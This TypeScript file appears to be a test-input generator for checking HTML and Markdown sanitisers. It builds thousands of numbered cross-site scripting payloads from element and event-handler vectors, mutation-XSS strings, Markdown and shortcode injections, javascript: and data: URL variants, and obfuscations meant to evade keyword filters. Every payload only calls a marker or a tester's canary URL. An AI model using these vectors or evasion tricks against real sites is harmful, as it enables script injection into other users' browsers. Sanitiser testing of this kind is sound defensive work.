/*
 * Texts that want to run a script where somebody reads them, by the thousand: ways of writing × ways of hiding × the mark `ran(N)`,
 * whose number tells which one ran. From the cheat sheets of the field, from mutation XSS, and from what Markdown and other
 * systems' markup know of addresses and attributes.
 */

/** Where a text that loads something finds it: whoever asks there for anything but a picture has let something active through. */
export interface Canary {
  url: string
}

/** `code` is JavaScript without quotes; `at` an address that answers with a script or a page that runs it. */
type Way = (code: string, at: string) => string

const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus tabindex=1',
  'ontoggle open',
  'onanimationstart',
  'onbegin',
  'onpointerover',
  'onclick',
]
const elements: Way[] = [
  c => `<script>${c}</script>`,
  c => `<script type=module>${c}</script>`,
  (_, at) => `<script src=${at}></script>`,
  (_, at) => `<script src="${at}" defer>x</script>`,
  (_, at) => `<link rel=modulepreload href=${at}><script type=module>import('${at}')</script>`,
  c => `<img src=x onerror=${c}>`,
  c => `<img src=x onerror="${c}"//`,
  c => `<img/src=x/onerror=${c}>`,
  c => `<img src="x\`>" onerror=${c}>`,
  c => `<image href=x onerror=${c}>`,
  c => `<svg onload=${c}>`,
  c => `<svg/onload=${c}>`,
  c => `<svg><script>${c}</script></svg>`,
  c => `<svg><script href=data:text/javascript,${c} />`,
  (_, at) => `<svg><script xlink:href="${at}"></script></svg>`,
  c => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  c => `<svg><a><animate attributeName=href values=javascript:${c} /><text x=20 y=20>X</text></a></svg>`,
  c => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`,
  c => `<svg><set attributeName=onmouseover to=${c}>`,
  c =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${c}'/></svg>#x">`,
  c => `<svg><foreignObject><iframe srcdoc="<script>parent.${c}</script>"></iframe></foreignObject></svg>`,
  c => `<math><a xlink:href="javascript:${c}">x</a></math>`,
  c => `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${c}">x</maction></math>`,
  c => `<body onload=${c}>`,
  c => `<body onpageshow=${c}>`,
  c => `<iframe src="javascript:${c}"></iframe>`,
  c => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  c => `<iframe srcdoc="&lt;img src=x onerror=parent.${c}&gt;"></iframe>`,
  (_, at) => `<iframe src=${at}></iframe>`,
  c => `<iframe onload=${c}></iframe>`,
  c => `<frameset onload=${c}><frame src=x></frameset>`,
  c => `<object data="javascript:${c}"></object>`,
  c => `<object data="data:text/html,<script>${c}</script>"></object>`,
  (_, at) => `<object data=${at} type=text/html></object>`,
  (_, at) => `<embed src=${at} type=text/html>`,
  c => `<embed src="javascript:${c}">`,
  c => `<a href="javascript:${c}">x</a>`,
  c => `<a href=javascript:${c}>x</a>`,
  c => `<a href="data:text/html,<script>${c}</script>">x</a>`,
  c => `<a href="vbscript:${c}">x</a>`,
  c => `<area shape=rect coords=0,0,9,9 href="javascript:${c}">`,
  c => `<a href="x" onclick="${c}" ping="x">x</a>`,
  c => `<form action="javascript:${c}"><input type=submit></form>`,
  c => `<form><button formaction="javascript:${c}">x</button></form>`,
  c => `<input autofocus onfocus=${c}>`,
  c => `<input type=image src=x onerror=${c}>`,
  c => `<select autofocus onfocus=${c}></select>`,
  c => `<textarea autofocus onfocus=${c}></textarea>`,
  c => `<keygen autofocus onfocus=${c}>`,
  c => `<video><source onerror=${c}></video>`,
  c => `<video src=x onerror=${c}></video>`,
  c => `<video poster=javascript:${c}></video>`,
  c => `<audio src=x onerror=${c}></audio>`,
  c => `<picture><source srcset=x><img onerror=${c} src=x></picture>`,
  c => `<track src=x onerror=${c}>`,
  c => `<details open ontoggle=${c}>x</details>`,
  c => `<dialog open onclose=${c}>x</dialog>`,
  c => `<marquee onstart=${c}>x</marquee>`,
  c => `<div style="animation:a" onanimationstart=${c}><style>@keyframes a{}</style></div>`,
  c => `<div style="background:url(javascript:${c})">x</div>`,
  c => `<div style="width:expression(${c})">x</div>`,
  (_, at) => `<style>@import "${at}";</style>`,
  (_, at) => `<link rel=stylesheet href=${at}>`,
  (_, at) => `<link rel=import href=${at}>`,
  c => `<style onload=${c}></style>`,
  c => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  c => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${c}</script>">`,
  (_, at) => `<base href="${at}/">`,
  c => `<base href="javascript:/a/-${c}//">`,
  c => `<table background="javascript:${c}"><td background="javascript:${c}">x</table>`,
  c => `<isindex action="javascript:${c}" type=image>`,
  c => `<portal src="javascript:${c}">`,
  c => `<x onclick=${c} onfocus=${c} tabindex=0 id=x autofocus>x</x>`,
  c => `<template shadowrootmode=open><img src=x onerror=${c}></template>`,
  c => `<div><template shadowrootmode=open><script>${c}</script></template></div>`,
  c => `<xml:namespace prefix="t"><html:script xmlns:html="http://www.w3.org/1999/xhtml">${c}</html:script>`,
  c => `<script xmlns="http://www.w3.org/1999/xhtml">${c}</script>`,
  c => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script>`,
  c => `<img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="${c}"/>`,
  c => `<svg xmlns="http://www.w3.org/2000/svg" onload="${c}"/>`,
  c => `<p popover id=p onbeforetoggle=${c}>x</p><button popovertarget=p autofocus>x</button>`,
  ...handlers.map(
    (handler): Way =>
      c =>
        `<p ${handler.replace(/^(\S+)/, `$1=${c}`)}>x</p>`,
  ),
  ...handlers.map(
    (handler): Way =>
      c =>
        `<a href=# ${handler.replace(/^(\S+)/, `$1="${c}"`)}>x</a>`,
  ),
]

/** What a sanitiser writes and a browser reads differently (mutation XSS). */
const mutations: Way[] = [
  c => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${c}&gt;">`,
  c => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${c}>`,
  c => `<svg></p><style><a id="</style><img src=x onerror=${c}>">`,
  c => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  c => `<textarea></textarea><p title="</textarea><img src=x onerror=${c}>">`,
  c => `<title><p title="</title><img src=x onerror=${c}>">`,
  c => `<xmp><p title="</xmp><img src=x onerror=${c}>">`,
  c => `<noembed><p title="</noembed><img src=x onerror=${c}>">`,
  c => `<svg><style><img src=x onerror=${c}></style></svg>`,
  c => `<math><annotation-xml encoding="text/html"><script>${c}</script></annotation-xml></math>`,
  c => `<math><mi><!--</mi><img src=x onerror=${c}>--></math>`,
  c => `<svg><desc><![CDATA[</desc><script>${c}</script>]]></svg>`,
  c => `<select><style></select><img src=x onerror=${c}></style>`,
  c => `<table><a href="<img src=x onerror=${c}>"><td>x`,
  c => `<p title="&lt;img src=x onerror=${c}&gt;">&lt;img src=x onerror=${c}&gt;</p>`,
  c => `&lt;script&gt;${c}&lt;/script&gt;`,
  c => `&amp;lt;script&amp;gt;${c}&amp;lt;/script&amp;gt;`,
  c => `<!--><img src=x onerror=${c}>-->`,
  c => `<!---><img src=x onerror=${c}>-->`,
  c => `<!--x--!><img src=x onerror=${c}>-->`,
  c => `<!-- --><script>${c}</script><!-- -->`,
  c => `<![CDATA[<img src=x onerror=${c}>]]>`,
  c => `]]><script>${c}</script><![CDATA[`,
  c => `]]></description></item><script xmlns="http://www.w3.org/1999/xhtml">${c}</script>`,
  c => `</content><script xmlns="http://www.w3.org/1999/xhtml">${c}</script>`,
  c => `<?xml-stylesheet href="javascript:${c}"?><img src=x onerror=${c}>`,
  c => `<?php <img src=x onerror=${c}> ?>`,
  c => `<%<!--'%><script>${c}</script -->`,
  c => `</title><script>${c}</script>`,
  c => `</textarea></style></noscript></script><script>${c}</script>`,
  c => `"><script>${c}</script>`,
  c => `'><img src=x onerror=${c}>`,
  c => `" onmouseover="${c}" autofocus onfocus="${c}" x="`,
  c => `' onmouseover='${c}' autofocus onfocus='${c}' x='`,
  c => `\` onfocus=${c} autofocus \``,
  c => ` onfocus=${c} autofocus tabindex=1 `,
  c => `<a title="a" title='" onfocus=${c} autofocus x='>x</a>`,
  c => `<a href="x&quot; onfocus=${c} autofocus x=&quot;">x</a>`,
  c => `<img alt="&#34; onerror=${c} x=&#34;" src=x>`,
  c => `<b <script>${c}</script>0`,
  c => `<<script>${c}//<</script>`,
  c => `<scr<script>ipt>${c}</scr</script>ipt>`,
  c => `<script\n>${c}</script\n>`,
  c => `<script/x>${c}</script x>`,
  c => `<scrıpt>${c}</scrıpt>`,
  c => `＜script＞${c}＜/script＞`,
  c => `+ADw-script+AD4-${c}+ADw-/script+AD4-`,
  c => `\u2028<script>${c}</script>`,
  c => `<plaintext><script>${c}</script>`,
  c => `<p><svg><p><style><!--</style><script>${c}</script>`,
  c => `<div id="x"><div><table><td></div><svg><p><style></table><img src=x onerror=${c}>`,
  c => `<svg><title><p id="</title><img src=x onerror=${c}>"></svg>`,
  c =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${c}>">`,
]

/** What Markdown and its dialects make of an address, an attribute, a block. */
const markdown: Way[] = [
  c => `[x](javascript:${c})`,
  c => `[x](<javascript:${c}>)`,
  c => `[x](  javascript:${c}  "title")`,
  c => `![x](javascript:${c})`,
  c => `![x](x "\\" onerror=${c} x=")`,
  c => `![x" onerror="${c}](x.png)`,
  c => `![x](x.png" onerror="${c})`,
  c => `[x](https://a.example/"onmouseover="${c}"x=")`,
  c => `[x](data:text/html,<script>${c}</script>)`,
  c => `<javascript:${c}>`,
  c => `<javascript:alert@x.example?${c}>`,
  c => `[x][ref]\n\n[ref]: javascript:${c}`,
  c => `[x]: javascript:${c} "x"\n\n[x]`,
  c => `[javascript:${c}](javascript:${c})`,
  c => `[x](java&#x73;cript:${c})`,
  c => `[x](java&Tab;script:${c})`,
  c => `[x](&#106;avascript&colon;${c})`,
  c => `[x](\\j\\avascript:${c})`,
  c => `[x](JaVaScRiPt:${c})`,
  c => `[x](\u0001javascript:${c})`,
  c => `[x](javascript&colon;${c})`,
  c => `[x](//javascript:${c})`,
  c => `[x](feed:javascript:${c})`,
  c => `[x](view-source:javascript:${c})`,
  c => `[x](blob:javascript:${c})`,
  c => '```"><script>' + c + '</script>\ncode\n```',
  c => '```html onclick=' + c + '\n<script>' + c + '</script>\n```',
  c => `\`<script>${c}</script>\``,
  c => `    <script>${c}</script>`,
  c => `# x {onclick=${c} .a" onfocus="${c}}`,
  c => `x\n{: onclick="${c}" style="x"}`,
  c => `![x](x.png){onerror=${c}}`,
  c => `|a|b|\n|-|-|\n|<img src=x onerror=${c}>|[x](javascript:${c})|`,
  c => `x[^1"><img src=x onerror=${c}>]\n\n[^1"><img src=x onerror=${c}>]: <script>${c}</script>`,
  c => `^[<img src=x onerror=${c}>]`,
  c => `> [!NOTE"><img src=x onerror=${c}>] <script>${c}</script>\n> <img src=x onerror=${c}>`,
  c => `::: tip <img src=x onerror=${c}>\n<script>${c}</script>\n:::`,
  c => `::: {onclick=${c}}\nx\n:::`,
  c => `:::note{onclick="${c}"}\nx\n:::`,
  c => `!!! note "<img src=x onerror=${c}>"\n    <script>${c}</script>`,
  c => `[[javascript:${c}]]`,
  c => `[[x|<img src=x onerror=${c}>]]`,
  c => `![[x.png|" onerror=${c} x="]]`,
  c => `![[javascript:${c}]]`,
  c => `==<img src=x onerror=${c}>== %%<script>${c}</script>%%`,
  c => `$<img src=x onerror=${c}>$ and $$\\href{javascript:${c}}{x}$$`,
  c =>
    `{{< figure src="javascript:${c}" link="javascript:${c}" caption="<img src=x onerror=${c}>" alt="\\" onerror=\\"${c}" >}}`,
  c => `{{< youtube "x\\" onload=\\"${c}" >}}`,
  c => `{{< highlight html "onclick=${c}" >}}<script>${c}</script>{{< /highlight >}}`,
  c => `{% raw %}<script>${c}</script>{% endraw %}`,
  c => `{% highlight html %}<script>${c}</script>{% endhighlight %}`,
  c => `{% link javascript:${c} %} {% img javascript:${c} "t" "<img src=x onerror=${c}>" %}`,
  c => `[caption caption="<img src=x onerror=${c}>"]<img src="x" onerror="${c}">[/caption]`,
  c =>
    `[gallery ids="x" link="javascript:${c}"] [embed]javascript:${c}[/embed] [audio src="javascript:${c}"]`,
  c => `[video src="javascript:${c}" poster="javascript:${c}"] [playlist onclick=${c}]`,
  c => `<Component onClick={() => ${c}} client:load />\n\nexport const x = ${c}`,
  c => `{${c}} {{ constructor.constructor('${c}')() }} \${${c}} #{${c}} <%= ${c} %>`,
  c => `https://a.example/"><script>${c}</script>`,
  c => `www.a.example/'onmouseover='${c}`,
  c => `:rocket" onclick="${c}: @x"><script>${c}</script>`,
  c => `<div markdown="1">\n<script>${c}</script>\n[x](javascript:${c})\n</div>`,
  c => `<p>\n\n<img src=x onerror=${c}>\n\n</p>`,
  c => `**<img src=x onerror=${c}>** _[x](javascript:${c})_ ~~<svg onload=${c}>~~`,
]

/** Addresses alone, for places that hold nothing else. */
export const addresses: Way[] = [
  c => `javascript:${c}`,
  c => ` javascript:${c}`,
  c => `JAVASCRIPT:${c}`,
  c => `java\tscript:${c}`,
  c => `java\nscript:${c}`,
  c => `\u0001javascript:${c}`,
  c => `\u00a0javascript:${c}`,
  c => `javascript\u003a${c}`,
  c => `javascript://a.example/%0a${c}`,
  c => `javascript://a.example/\u2028${c}`,
  c => `&#106;avascript:${c}`,
  c => `data:text/html,<script>${c}</script>`,
  c => `data:text/html;base64,${btoa(`<script>${c}</script>`)}`,
  c => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${c}'/>`,
  c => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${c}</script>`,
  c => `vbscript:${c}`,
  c => `livescript:${c}`,
  c => `https://a.example/"onerror="${c}"x="`,
  c => `https://a.example/'onerror='${c}'x='`,
  c => `https://a.example/><script>${c}</script>`,
  c => `//a.example/]]><script>${c}</script>`,
  c => `x.png" onerror="${c}`,
  c => `x.png 1x, javascript:${c} 2x`,
]

/** How a way is dressed so that a list of words does not know it. */
const disguises: ((text: string) => string)[] = [
  text => text,
  text =>
    text.replace(/<(\w+)/g, (_, name: string) => `<${alternate(name)}`).replace(/javascript/g, 'JaVaScRiPt'),
  text => text.replace(/javascript:/g, 'java\tscript:').replace(/ on(\w+)=/g, '\non$1 = '),
  text => text.replace(/javascript:/g, '&#106;&#x61;vascript&#58;').replace(/ on(\w+)=/g, '/on$1\t='),
  text => text.replace(/javascript:/g, 'javascript&colon;').replace(/ on(\w+)=/g, '\fon$1='),
  text => text.replace(/javascript:/g, ' \u0001\u001fjavascript\n:').replace(/<(\w+)/g, '<\0$1'),
  text => text.replace(/ on(\w+)=/g, ' x="a" on$1=').replace(/<(\w)/g, '<$1'),
  text => `<p>${text}</p>`,
  text => `<div><table><tr><td>${text}</td></tr></table></div>`,
  text => `<svg>${text}</svg>`,
  text => `<math><mtext>${text}</mtext></math>`,
  text => `<svg><foreignObject>${text}</foreignObject></svg>`,
  text => `<template>${text}</template>`,
  text => `<noscript>${text}</noscript>`,
  text => `<blockquote><ul><li>${text}</li></ul></blockquote>`,
  text => `<details open><summary>${text}</summary></details>`,
  text => `<figure><figcaption>${text}</figcaption></figure>`,
  text => `<a href="https://a.example/">${text}</a>`,
  text => `<pre><code>${text}</code></pre>`,
  text => `<iframe>${text}</iframe>`,
  text => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => `${text}${text}`,
]
const alternate = (name: string) =>
  [...name].map((letter, at) => (at % 2 ? letter.toUpperCase() : letter)).join('')

export interface ScriptInput {
  number: number
  text: string
  /** It may swallow what follows it: an open comment, element or quotation mark. */
  swallows: boolean
}

/** Inputs without end, each with a number of its own; the same in every run. */
export function scriptInputs(canary: Canary) {
  let number = 0
  const turns = new Map<Way[], number>()
  const made = (ways: Way[], disguised: boolean): ScriptInput => {
    const turn = turns.get(ways) ?? 0
    turns.set(ways, turn + 1)
    number++
    const disguise = disguised ? disguises[Math.floor(turn / ways.length) % disguises.length]! : disguises[0]!
    const text = disguise(ways[turn % ways.length]!(`ran(${number})`, `${canary.url}/active/${number}`))
    return { number, text, swallows: swallows(text) }
  }
  return {
    count: () => number,
    /** How many there are before one comes again. */
    kinds: (elements.length + mutations.length + markdown.length) * disguises.length + addresses.length,
    markup: () => made(all, true),
    markdown: () => made(markdown, false),
    address: () => made(addresses, false),
  }
}
const all = [...elements, ...mutations, ...markdown]

const rawText = 'textarea title xmp noembed noscript iframe style script select template'.split(' ')
/** An open comment, tag or element of raw text: what comes after it would not be read. */
const swallows = (text: string): boolean =>
  /<!|<\?|<plaintext|<frameset|<body|<base|\0/i.test(text) ||
  text.split('<').length > text.split('>').length ||
  /<[^>]*$/.test(text) ||
  (text.includes('<') && ['"', "'"].some(mark => text.split(mark).length % 2 === 0)) ||
  rawText.some(name => {
    const count = (form: string) => text.match(new RegExp(form, 'gi'))?.length ?? 0
    return count(`<${name}\\b`) !== count(`</${name}\\b`)
  })
